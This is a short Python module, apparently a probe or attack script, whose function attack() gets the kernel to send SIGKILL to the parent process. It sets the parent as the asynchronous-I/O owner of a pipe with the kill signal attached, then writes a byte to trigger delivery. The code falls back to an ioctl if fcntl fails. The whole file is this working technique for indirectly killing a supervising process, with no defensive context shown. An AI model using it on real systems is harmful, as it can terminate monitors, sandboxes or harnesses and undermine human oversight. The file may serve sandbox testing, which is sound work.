"""Has the kernel signal another process, as the owner of a descriptor's events."""

import fcntl
import os
import signal
import struct
import time


def attack():
    parent = os.getppid()
    if parent < 2:
        return False
    reading, writing = os.pipe()
    try:
        fcntl.fcntl(reading, 10, signal.SIGKILL)
        fcntl.fcntl(reading, fcntl.F_SETOWN, parent)
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
    except OSError:
        try:
            fcntl.ioctl(reading, 0x8901, struct.pack("i", parent))
        except OSError:
            return False
    os.write(writing, b"x")
    time.sleep(0.2)
    return True
